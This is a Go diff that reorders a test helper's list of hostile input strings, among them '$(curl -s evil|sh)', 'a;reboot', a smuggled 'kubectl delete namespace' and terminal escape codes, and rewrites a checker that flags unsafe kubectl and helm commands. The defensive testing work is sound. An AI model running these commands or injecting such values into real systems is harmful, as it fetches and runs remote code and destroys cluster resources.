@@ -10,32 +10,34 @@ import (
 // Hostile returns texts that others may choose, and that are not DNS names.
 func Hostile() []string {
 	return []string{
-		"$(curl -s evil|sh)", "`id`", "a;reboot", "a&b", "a|b", "a>b", "a b", "a\nkubectl delete namespace a", "kubectl delete namespace a",
-		"a\r\nb", "a\tb",
-		`a"b`, "a'b", `a\b`, "$HOME", "*", "~", "#a", "{a,b}", "-oyaml", "--kubeconfig=a", "a=b", "../a", "",
-		"\x1b[2J\x1b]0;a\x07", "\u009b2J", "a\x00b", "a\x7fb", "a\u202eb", "a\u2066b\u2069", "a\u2028b", "\U000e0061", "\xff",
-		strings.Repeat("a", 10<<10), strings.Repeat("$(a)", 3<<10),
+		"$(curl -s evil|sh)", "`id`", "a;reboot", "a&b", "a|b", "a>b", "a b", "a\r\nb", "a\tb", `a"b`, "a'b", `a\b`, "$HOME",
+		"*", "~", "#a", "{a,b}", "-oyaml", "--kubeconfig=a", "a=b", "../a", "",
+		"a\nkubectl delete namespace a", "kubectl delete namespace a",
+		"\x1b[2J\x1b]0;a\x07", "\u009b2J", "a\x00b", "a\x7fb", "a\u202eb", "a\u2066b\u2069", "a\u2028b", "\U000e0061",
+		"\xff", strings.Repeat("a", 10<<10), strings.Repeat("$(a)", 3<<10),
 	}
 }
 
 // patch is the only argument of printed commands that a shell needs quotes for.
-var patch = regexp.MustCompile(`--patch='\{"spec":\{"service":\{"namespace":"[\w.-]+","name":"[\w.-]+","port":\d+\}\}\}'`)
+var patch = regexp.MustCompile(`--patch='\{"spec":\{"service":` +
+	`\{"namespace":"[\w.-]+","name":"[\w.-]+","port":\d+\}\}\}'`)
 
 // plain has no character that is special to a shell.
 var plain = regexp.MustCompile(`^[a-zA-Z0-9 ./:=,_-]*$`)
 
 // Unsafe returns the commands in a text, each on a line of its own, that have a character that is
-// special to a shell, or one of the Hostile texts as a word.
+// special to a shell, or a flag or command of the Hostile texts.
 func Unsafe(text string) (commands []string) {
+	isFlag := func(word string) bool {
+		return strings.HasPrefix(word, "-oyaml") || strings.HasPrefix(word, "--kubeconfig")
+	}
 	for line := range strings.Lines(text) {
 		line = strings.TrimSuffix(line, "\n")
-		isCommand := strings.HasPrefix(line, "kubectl ") || strings.HasPrefix(line, "helm ")
 		rest := patch.ReplaceAllString(line, "")
-		isHostile := func(word string) bool {
-			return strings.HasPrefix(word, "-oyaml") || strings.HasPrefix(word, "--kubeconfig")
-		}
-		isHostileCommand := strings.HasPrefix(line, "kubectl delete namespace")
-		if isCommand && (isHostileCommand || !plain.MatchString(rest) || slices.ContainsFunc(strings.Fields(rest), isHostile)) {
+		switch {
+		case !strings.HasPrefix(line, "kubectl ") && !strings.HasPrefix(line, "helm "):
+		case strings.HasPrefix(line, "kubectl delete namespace"), !plain.MatchString(rest),
+			slices.ContainsFunc(strings.Fields(rest), isFlag):
 			commands = append(commands, line)
 		}
 	}
